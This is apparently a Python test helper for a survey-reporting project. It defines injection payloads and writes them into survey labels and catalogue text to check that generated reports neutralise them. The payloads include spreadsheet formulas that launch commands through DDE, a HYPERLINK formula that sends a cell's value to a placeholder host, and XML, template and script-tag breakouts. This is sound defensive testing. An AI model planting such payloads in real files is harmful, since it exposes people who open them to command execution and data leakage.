"""Texts that try to be more than text, put into every channel that a report prints."""

from __future__ import annotations

import json
from collections.abc import Sequence
from itertools import cycle, product
from pathlib import Path
from typing import Any

import yaml
from support.executed import notebook

from shelterlib.paths import Project

BODIES = (
    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"open")', "A1", "1"),
    *("IMPORTXML(CONCAT(A1),B1)", "DDE(\"cmd\";\"/C calc\";\"x\")", "WEBSERVICE(A1)", "{1;2}"),
)  # fmt: skip
FORMULAS = tuple(start + body for start, body in product(("=", "+", "-", "@", "\t="), BODIES))
MARKUP = (
    '</w:t></w:r></w:p><w:p><w:r><w:t>INJECTED & "quoted"',
    "{{ 7 * 7 }} {% raw %} ${7*7} ]]> <!-- x --> &amp; &#65;",
    '#import "x.typ" #panic("!") *bold* _x_ $ 7 * 7 $ <label> @ref [a] \\u{41} // end',
    "</a:t></a:r><a:r><a:t>INJECTED <script>alert(1)</script>",
)


def poison(project: Project, out: Path, payloads: Sequence[str], wave: str = "2023") -> set[str]:
    """Put payloads into what wave.yml says, the form's labels and choices, and the catalogue's words.

    Returns:
        the payloads that were put in; the executed notebook is made anew.
    """
    turn, used = cycle(payloads), set()

    def one() -> str:
        payload = next(turn)
        used.add(payload)
        return payload

    path = out / "data/definitions.json"
    definitions: dict[str, Any] = json.loads(path.read_text("utf-8"))
    definitions["wave"] |= {key: one() for key in ("title", "organisation", "project", "funder", "source", "licence")}
    for questions in definitions["questions"].values():
        for question in questions.values():
            question["labels"] = dict.fromkeys(("en", "uk"), one())
            for choice in question["choices"]:
                choice["labels"] = dict.fromkeys(("en", "uk"), one())
    path.write_text(json.dumps(definitions, ensure_ascii=False), "utf-8")
    for file in (project.catalogue / "text").glob("*.yml"):
        words = yaml.safe_load(file.read_text("utf-8"))
        for indicator in words["indicator"].values():
            for part in indicator:
                indicator[part] = one().replace("{", "{{").replace("}", "}}")
        file.write_text(yaml.safe_dump(words, allow_unicode=True), "utf-8")
    notebook(project, out, wave)
    return used
